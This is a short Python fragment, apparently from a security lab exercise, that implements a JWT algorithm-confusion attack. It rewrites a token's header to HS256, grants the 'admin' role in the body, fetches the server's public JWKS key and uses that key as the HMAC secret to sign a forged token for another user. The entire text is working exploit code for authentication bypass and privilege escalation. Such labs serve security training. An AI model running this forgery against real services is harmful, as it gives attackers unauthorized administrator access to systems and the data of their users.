# in a function, set fetched again
def confuse(token):
    head, body, _ = token.split(".")
    head = json.loads(mine.base64url_decode(head))
    body = json.loads(mine.base64url_decode(body))
    head["alg"] = "HS256"
    body["roles"] = ["admin"]
    jwks = http.get(f"{lab.auth_server}/.well-known/jwks.json").json()
    return mine.sign_hs256(head, body, pem_of(mine.find_key(jwks, head["kid"])))


forged = confuse(bobs_token)
